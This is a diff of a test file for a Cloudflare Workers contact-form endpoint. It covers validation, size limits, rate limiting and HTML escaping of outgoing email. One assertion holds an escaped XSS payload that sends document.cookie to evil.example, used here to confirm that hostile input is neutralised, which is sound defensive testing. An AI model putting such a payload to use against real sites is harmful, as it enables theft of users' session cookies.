@@ -1,6 +1,7 @@
 import { env } from "cloudflare:workers";
 import { afterEach, describe, expect, it, vi } from "vitest";
-import { deliverDueEmails } from "../../worker/services/outbox";
+import { deliverDueEmails } from "#worker/services/outbox";
+import { startOfRateLimitWindow } from "./helpers";
 import {
   callWorker,
   countAllSubmissions,
@@ -65,7 +66,9 @@ describe("POST /api/contact", () => {
     const body = aMessage();
     let seenDuringSend: { submissions: number; emailStatus?: string } | undefined;
     const mailer = fakeMailer(async () => {
-      const [row] = await env.DB.prepare("SELECT status FROM email_outbox WHERE submission_id = (SELECT id FROM form_submissions WHERE email = ?)")
+      const [row] = await env.DB.prepare(
+        "SELECT status FROM email_outbox WHERE submission_id = (SELECT id FROM form_submissions WHERE email = ?)",
+      )
         .bind(body.email)
         .all<{ status: string }>()
         .then((result) => result.results);
@@ -115,22 +118,66 @@ describe("POST /api/contact", () => {
     expect(sent.subject).not.toMatch(/[\r\n]/);
     expect(sent.html).not.toContain("<script>");
     expect(sent.html).not.toContain("<img");
-    expect(sent.html).toContain("&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;");
+    expect(sent.html).toContain(
+      "&lt;script&gt;fetch(&quot;https://evil.example/&quot;+document.cookie)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
+    );
     expect(sent.html).toContain("Eve &lt;script&gt;alert(1)&lt;/script&gt;");
   });
 
   describe("refuses bad input with a message naming the problem, and stores nothing", () => {
-    const cases: Array<{ name: string; body: Record<string, unknown>; field: string; message: string; code?: string }> = [
-      { name: "missing name", body: aMessage({ username: "  " }), field: "username", message: "username: Name is required" },
-      { name: "missing email", body: aMessage({ email: "" }), field: "email", message: "email: Email is required" },
-      { name: "bad email", body: aMessage({ email: "ana@" }), field: "email", message: "email: Invalid email format" },
-      { name: "missing phone", body: aMessage({ phone: "" }), field: "phone", message: "phone: Phone number is required" },
-      { name: "short phone", body: aMessage({ phone: "555 0100" }), field: "phone", message: "phone: Phone number must be at least 10 digits" },
-      { name: "missing message", body: aMessage({ message: "" }), field: "message", message: "message: Message is required" },
-      { name: "message too long", body: aMessage({ message: "x".repeat(5001) }), field: "message", message: "message: Message can be at most 5000 characters" },
-      { name: "wrong type", body: aMessage({ phone: 7145550100 }), field: "phone", message: "phone: Phone number is required" },
-      { name: "unknown field", body: aMessage({ isAdmin: true }), field: "isAdmin", message: "Unknown field: isAdmin", code: "unknown_field" },
-    ];
+    const cases: Array<{ name: string; body: Record<string, unknown>; field: string; message: string; code?: string }> =
+      [
+        {
+          name: "missing name",
+          body: aMessage({ username: "  " }),
+          field: "username",
+          message: "username: Name is required",
+        },
+        { name: "missing email", body: aMessage({ email: "" }), field: "email", message: "email: Email is required" },
+        {
+          name: "bad email",
+          body: aMessage({ email: "ana@" }),
+          field: "email",
+          message: "email: Invalid email format",
+        },
+        {
+          name: "missing phone",
+          body: aMessage({ phone: "" }),
+          field: "phone",
+          message: "phone: Phone number is required",
+        },
+        {
+          name: "short phone",
+          body: aMessage({ phone: "555 0100" }),
+          field: "phone",
+          message: "phone: Phone number must be at least 10 digits",
+        },
+        {
+          name: "missing message",
+          body: aMessage({ message: "" }),
+          field: "message",
+          message: "message: Message is required",
+        },
+        {
+          name: "message too long",
+          body: aMessage({ message: "x".repeat(5001) }),
+          field: "message",
+          message: "message: Message can be at most 5000 characters",
+        },
+        {
+          name: "wrong type",
+          body: aMessage({ phone: 7145550100 }),
+          field: "phone",
+          message: "phone: Phone number is required",
+        },
+        {
+          name: "unknown field",
+          body: aMessage({ isAdmin: true }),
+          field: "isAdmin",
+          message: "Unknown field: isAdmin",
+          code: "unknown_field",
+        },
+      ];
     for (const testCase of cases) {
       it(testCase.name, async () => {
         const before = await countAllSubmissions();
@@ -149,7 +196,9 @@ describe("POST /api/contact", () => {
       const before = await countAllSubmissions();
       const response = await postJson("/api/contact", '{"username": "Ana",', { env: envWith(fakeMailer()) });
       expect(response.status).toBe(400);
-      expect(await response.json()).toEqual({ error: { code: "invalid_json", message: "The request body is not valid JSON." } });
+      expect(await response.json()).toEqual({
+        error: { code: "invalid_json", message: "The request body is not valid JSON." },
+      });
       expect(await countAllSubmissions()).toBe(before);
     });
 
@@ -174,7 +223,9 @@ describe("POST /api/contact", () => {
 
     it("an oversized body", async () => {
       const before = await countAllSubmissions();
-      const response = await postJson("/api/contact", aMessage({ message: "x".repeat(20 * 1024) }), { env: envWith(fakeMailer()) });
+      const response = await postJson("/api/contact", aMessage({ message: "x".repeat(20 * 1024) }), {
+        env: envWith(fakeMailer()),
+      });
       expect(response.status).toBe(413);
       expect(await response.json()).toEqual({
         error: { code: "payload_too_large", message: "The request body is larger than 16 KB." },
@@ -206,12 +257,16 @@ describe("POST /api/contact", () => {
   });
 
   it("limits a client to 5 messages a minute: the burst beyond gets 429 and stores nothing", async () => {
+    await startOfRateLimitWindow();
     const ip = uniqueIp();
     const email = uniqueEmail("burst");
     const mailer = fakeMailer();
     const statuses: number[] = [];
     for (let index = 0; index < 8; index += 1) {
-      const response = await postJson("/api/contact", aMessage({ email, message: `Spam ${index}` }), { env: envWith(mailer), ip });
+      const response = await postJson("/api/contact", aMessage({ email, message: `Spam ${index}` }), {
+        env: envWith(mailer),
+        ip,
+      });
       statuses.push(response.status);
       if (response.status === 429) {
         expect(response.headers.get("Retry-After")).toBe("60");
